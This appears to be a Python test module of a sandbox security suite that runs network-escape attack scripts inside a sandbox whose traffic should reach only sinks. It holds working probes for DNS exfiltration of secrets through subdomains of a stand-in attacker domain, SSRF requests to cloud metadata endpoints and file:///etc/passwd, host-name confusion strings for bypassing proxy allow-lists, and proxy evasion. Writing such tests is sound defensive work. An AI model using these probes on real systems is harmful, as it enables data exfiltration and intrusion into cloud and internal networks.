"""Group M, the network where names are allowed. Every row runs among sinks: not one packet may leave.

What is allowed in these rows is refused for another reason, or does not exist: a row whose name was looked up would
have sent a packet. What has to be reached to be attacked (TLS for another name, a second request, the quota) is
attacked over plain sockets in `tests/egress`.
"""

from __future__ import annotations

from dataclasses import replace

from terraphim_rlm.testing.attack.model import SMALL, Row, Step

_TOOLS = """
import base64, socket, struct, urllib.request
def say(data, place=("127.1.1.1", 3128), wait=3.0):
    with socket.socket() as client:
        client.settimeout(wait)
        try:
            client.connect(place); client.sendall(data)
            got = b""
            while len(got) < 65536 and (block := client.recv(4096)): got += block
            return got
        except OSError: return b""
def knock(host, port, kind=socket.SOCK_STREAM, word=b"GET / HTTP/1.0\\r\\n\\r\\n"):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, kind) as client:
            client.settimeout(0.3)
            client.connect((host, port)); client.send(word)
            harm("was answered by", host, port, client.recv(100))
    except OSError: pass
def ask(name, kind=1, place=("127.1.1.1", 53)):
    labels = b"".join(bytes([len(each)]) + each for each in name.split(b".")) + b"\\0"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.05)
            client.sendto(struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">2H", kind, 1), place)
            return client.recv(512)
    except OSError: return b""
def reached(what, answer):
    if b"sink-here" in answer: harm("reached", what)
def both(host, port=80):
    reached(host, say(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (host, port)))
    reached(host, say(b"GET http://%s:%d/ HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % (host, port, host, port)))
"""

_NOTHING = (
    _TOOLS
    + """
count = 0
for host in ("8.8.8.8", "10.0.0.1", "2001:4860:4860::8888", "224.0.0.251", "255.255.255.255", "ff02::fb"):
    for port in (53, 80, 443, 853, 5353):
        knock(host, port); knock(host, port, socket.SOCK_DGRAM); count += 2
for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (2, 1, 132), (2, 2, 136), (17, 3, 0x0300), (40, 1, 0), (2, 2, 1), (16, 3, 0)):
    count += 1
    try:
        with socket.socket(family, kind, protocol) as made:
            if family == 2: made.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("8.8.8.8", 0))
            elif family == 17: made.bind(("lo", 0x0806)); made.send(b"\\xff" * 42)
            elif family == 40: made.settimeout(0.3); made.connect((2, 1024)); harm("reached the host by vsock")
    except (OSError, OverflowError, TypeError): pass
tried(count)
"""
)

_ORACLE = (
    _TOOLS
    + """
import os
count = 0
for number in range(60):
    secret = base64.b32encode(os.urandom(20)).decode().lower().rstrip("=").encode()
    for suffix in (b"attacker.test", b"docs.allowed.test", b"wild.test.attacker.test", b"x.wild.test"):
        ask(secret + b"." + suffix, (1, 16, 10, 28, 255, 65)[number % 6]); count += 1
for name in ("canary.attacker.test", "canary.docs.allowed.test", "canary.local"):
    try: socket.getaddrinfo(name, 443); harm("resolved", name)
    except OSError: pass
query = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + b"\\6canary\\x08attacker\\4test\\0" + struct.pack(">2H", 16, 1)
say(struct.pack(">H", len(query)) + query, ("127.1.1.1", 53), 0.3)
for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53"):
    ask(b"canary.attacker.test", 16, (server, 53)); knock(server, 853); knock(server, 443)
for resolver in (b"dns.attacker.test", b"8.8.8.8", b"1.1.1.1"): both(resolver, 443)
tried(count)
"""
)

_PRIVATE = (
    "10.0.0.1", "172.16.0.1", "172.31.255.254", "192.168.1.1", "192.168.65.7", "100.64.0.1", "100.100.100.200", "169.254.169.254",
    "169.254.170.2", "127.0.0.1", "127.0.0.53", "127.1.1.1", "0.0.0.0", "0.1.2.3", "255.255.255.255", "224.0.0.251", "192.0.0.192",  # noqa: S104
    "168.63.129.16", "198.18.0.1", "192.0.2.1", "240.0.0.1", "[::1]", "[::]", "[fc00::1]", "[fd00:ec2::254]", "[fe80::1]", "[ff02::1]",
    "[::ffff:169.254.169.254]", "[::ffff:10.0.0.1]", "[::a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "[2001:0:a9fe:a9fe::1]",
    "[fec0::1]", "[2001:db8::1]",
)  # fmt: skip
_RANGES = _TOOLS + f"hosts = {_PRIVATE!r}\nfor host in hosts: both(host.encode())\ntried(len(hosts) * 2)\n"

_HOPS = (
    _TOOLS
    + """
hops = ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://2852039166/", "http://[::ffff:a9fe:a9fe]/",
        "file:///etc/passwd", "gopher://10.0.0.1:6379/_INFO", "ftp://10.0.0.1/", "https://169.254.169.254/", "dict://10.0.0.1:6379/info"]
for hop in hops:
    host = hop.split("/")[2].encode() or b"10.0.0.1"
    reached(hop, say(b"GET " + hop.encode() + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n"))
    reached(hop, say(b"GET " + hop.encode() + b" HTTP/1.0\\r\\n\\r\\n"))
    reached(hop, say(b"GET / HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n", ("127.1.1.1", 80)))
tried(len(hops) * 3)
"""
)

_TRICKS = (
    _TOOLS
    + r"""
evil, good = b"10.9.9.9", b"docs.allowed.test"
places = [
    evil + b"\x00." + good, evil + b"%00." + good, evil + b"\r\n." + good, evil + b" ." + good, evil + b"\t" + good, evil + b"#." + good,
    evil + b"?." + good, evil + b"/." + good, evil + b"\\." + good, good + b"@" + evil, good + b":80@" + evil, b"a:b@" + evil, good + b"%40" + evil,
    evil + b"." + good + b"\x00", evil + b":80#." + good, b"168364297", b"0x0a090909", b"0xa.0x9.0x9.0x9", b"012.011.011.011", b"10.9.2313",
    b"10.591113", b"10.9.9.9.", b"[::ffff:10.9.9.9]", b"[::ffff:a09:909]", b"[::10.9.9.9]", b"[0:0:0:0:0:ffff:10.9.9.9]", b"[::ffff:10.9.9.9%25lo]",
    b"docs.allowed.test.evil.test", b"docs-allowed.test", b"xdocs.allowed.test", b"docs.allowed.testx", b"\xd0\xb4ocs.allowed.test",
    b"docs\xe3\x80\x82allowed.test", b"DOCS.ALLOWED.TEST\x00" + evil, good + b".." + evil, b"." + good, b"-" + good, b"a" * 300 + b"." + good,
    b"*." + good, b"localhost", b"metadata", good + b":80:" + evil, good + b"," + evil, good + b";" + evil,
]
for place in places:
    reached(place, say(b"CONNECT " + place + b":80 HTTP/1.1\r\n\r\n"))
    reached(place, say(b"GET http://" + place + b"/ HTTP/1.1\r\nHost: " + place + b"\r\n\r\n"))
    reached(place, say(b"GET / HTTP/1.1\r\nHost: " + place + b"\r\n\r\n", ("127.1.1.1", 80)))
    if len(place) < 64: ask(place)
for head in (b"GET http://%s/ HTTP/1.1\r\nHost: %s" % (good, evil), b"GET http://%s/ HTTP/1.1\r\nHost: %s" % (evil, good),
             b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nHost: %s" % (good, good, evil), b"CONNECT %s:80 HTTP/1.1\r\nHost: %s:80" % (evil, good),
             b"GET http://%s/ HTTP/1.1\r\nHost:\r\n %s" % (evil, good), b"GET http://%s/ HTTP/1.1\nHost: %s\n\nGET http://%s/ HTTP/1.1" % (evil, good, evil)):
    reached(head, say(head + b"\r\n\r\n"))
tried(len(places) * 3 + 6)
"""
)

_WILD = (
    _TOOLS
    + """
names = ["a.test", "xa.test", "a.test.evil.test", "x.a.test.evil.test", "xb.test", "x.b.test", "b.test.evil.test", "b.testx", "ab.test",
         "a.tes", "test", "evil.test", "a.test:443@evil.test"]
for name in names: both(name.encode()); ask(name.encode())
tried(len(names) * 3)
"""
)

_AROUND = (
    """
import os
for name in list(os.environ):
    if name.lower().endswith("_proxy"): del os.environ[name]
"""
    + _NOTHING
    + """
for url in ("http://169.254.169.254/", "http://8.8.8.8/", "https://1.1.1.1/"):
    try: harm("fetched", url, urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, timeout=0.3).read(20))
    except OSError: pass
"""
)

_FIRST = (
    _TOOLS
    + 'for port in (53, 80, 443): knock("8.8.8.8", port); knock("10.0.0.1", port, socket.SOCK_DGRAM)\ntried(6)\n'
)

_INBOUND = (
    _TOOLS
    + """
import threading
opened = []
for port in (8000, 8443, 2222):
    server = socket.create_server(("0.0.0.0", port)); opened.append(server)
own = {"1F40", "20FB", "08AE", "0050", "01BB", "0C38"}
for path in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in read(path).decode().splitlines()[1:]:
        place, state = line.split()[1], line.split()[3]
        if state == "0A" and place.rpartition(":")[2] not in own: harm("shares the ports of the host:", place)
for index, name in socket.if_nameindex():
    if name != "lo" and b"1" == read(f"/sys/class/net/{name}/carrier").strip(): harm("has an interface", name)
for host in ("8.8.8.8", "10.0.0.1", "192.168.1.1"):
    for port in (8000, 8443, 2222): knock(host, port)
tried(9)
"""
)

_ALLOWED = replace(SMALL, network=("docs.allowed.test", "*.wild.test"))
_LITERALS = replace(SMALL, network=_PRIVATE)
_OPEN = ("allowed-names", "public-addresses")

ROWS = (
    Row("M01", "P0", "sends anything at all without a network", (Step(_NOTHING, timeout=30),), off=("own-network",), needs=("network",)),
    Row(
        "M02", "P0", "carries data out in names while some are allowed", (Step(_ORACLE, timeout=40),),
        off=("names-answered-here",), needs=("network",), resources=_ALLOWED,
    ),
    Row(
        "M03", "P0", "reaches addresses that are not public, each of them allowed by name", (Step(_RANGES, timeout=40),),
        off=("public-addresses",), needs=("network",), resources=_LITERALS,
    ),
    Row(
        "M05", "P0", "follows redirects to metadata, files and other protocols", (Step(_HOPS, timeout=40),),
        off=_OPEN, needs=("network",), resources=_ALLOWED,
    ),
    Row(
        "M06", "P0", "names hosts so that checker and dialler understand different ones", (Step(_TRICKS, timeout=60),),
        off=("strict-names", "public-addresses"), needs=("network",), resources=_ALLOWED,
    ),
    Row(
        "M07", "P0", "names hosts that only look like allowed ones", (Step(_WILD, timeout=40),),
        off=("label-match",), needs=("network",), resources=replace(SMALL, network=("*.a.test", "b.test")),
    ),
    Row(
        "M08", "P0", "goes around the proxy while names are allowed", (Step(_AROUND, timeout=40),),
        off=("own-network", "gateway-inside"), needs=("network",), resources=_ALLOWED,
    ),
    Row(
        "M11", "P0", "is faster than the rules of its network", tuple(Step(_FIRST, sandbox=number, timeout=15) for number in range(1, 5)),
        off=("own-network", "gateway-inside"), needs=("network",), resources=_ALLOWED,
    ),
    Row(
        "M12", "P0", "is reached from outside at ports that it opens", (Step(_INBOUND, timeout=15),),
        off=("own-network", "gateway-inside"), needs=("network",), resources=_ALLOWED,
    ),
)  # fmt: skip
